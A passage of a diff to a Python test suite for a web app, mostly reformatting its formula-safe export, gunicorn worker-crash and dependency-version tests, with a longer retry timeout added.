+        ("branch", DANGEROUS[2]),
+        ("audit", DANGEROUS[3]),
+    ):
         exported = cells(rows(view))
         assert "'" + value in exported, (view, value)
         assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r", "\u200f")) for c in exported), view
@@ -745,7 +928,7 @@ def test_exports_are_formula_safe_with_bom_persian_and_no_secret_columns(app, ma
 
 # ---------------------------------------------------------------------- 38: a killed worker
 
-SLOW_APP = r'''
+SLOW_APP = r"""
 import os, sys, time
 sys.path.insert(0, {root!r})
 from app import create_app
@@ -764,7 +947,7 @@ def write():
             open({flag!r}, "w").write(str(os.getpid()))
             time.sleep(60)
     return "ok"
-'''
+"""
 
 
 def _free_port():
@@ -786,12 +969,26 @@ def test_sigkill_of_a_gunicorn_worker_mid_transaction(app, dbc, tmp_path):
         pytest.skip("gunicorn is not installed")
     url = app.config["DATABASE_URL"]
     flag = tmp_path / "inside"
-    (tmp_path / "slow_app.py").write_text(SLOW_APP.format(root=str(ROOT), url=url, upload=str(tmp_path / "docs"),
-                                                          flag=str(flag)))
+    (tmp_path / "slow_app.py").write_text(
+        SLOW_APP.format(root=str(ROOT), url=url, upload=str(tmp_path / "docs"), flag=str(flag))
+    )
     port = _free_port()
-    server = subprocess.Popen([str(gunicorn), "--workers", "1", "--bind", f"127.0.0.1:{port}", "--timeout", "120",
-                               "--chdir", str(tmp_path), "slow_app:app"],
-                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    server = subprocess.Popen(
+        [
+            str(gunicorn),
+            "--workers",
+            "1",
+            "--bind",
+            f"127.0.0.1:{port}",
+            "--timeout",
+            "120",
+            "--chdir",
+            str(tmp_path),
+            "slow_app:app",
+        ],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+    )
     base = f"http://127.0.0.1:{port}"
     try:
         deadline = time.time() + 30
@@ -822,11 +1019,13 @@ def test_sigkill_of_a_gunicorn_worker_mid_transaction(app, dbc, tmp_path):
         os.kill(worker, signal.SIGKILL)
         thread.join(30)
         assert "response" not in outcome
-        # The master starts a new worker; the client retries.
+        # The master starts a new worker; the client retries while the port refuses. Once the
+        # master accepts, the request waits for the new worker (seconds on a busy machine):
+        # a short timeout would send it twice.
         deadline = time.time() + 30
         while True:
             try:
-                assert _post(base + "/__test/write", {"key": "retried"}).status == 200
+                assert _post(base + "/__test/write", {"key": "retried"}, timeout=120).status == 200
                 break
             except (urllib.error.URLError, ConnectionError, OSError):
                 if time.time() > deadline:
@@ -839,6 +1038,7 @@ def test_sigkill_of_a_gunicorn_worker_mid_transaction(app, dbc, tmp_path):
         except subprocess.TimeoutExpired:
             server.kill()
             server.wait()
+        server.stderr.close()
     rows = models.AuditLog.select().where(models.AuditLog.action == "crash-test")
     assert [r.detail for r in rows] == ["retried"]
     if models.is_sqlite():
@@ -858,6 +1058,7 @@ def test_dependencies_meet_the_minimum_safe_versions():
     from importlib.metadata import version
 
     from packaging.version import Version
+
     declared = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["dependencies"]
     for name, minimum in MINIMUM_VERSIONS.items():
         assert Version(version(name)) >= Version(minimum), (name, version(name))
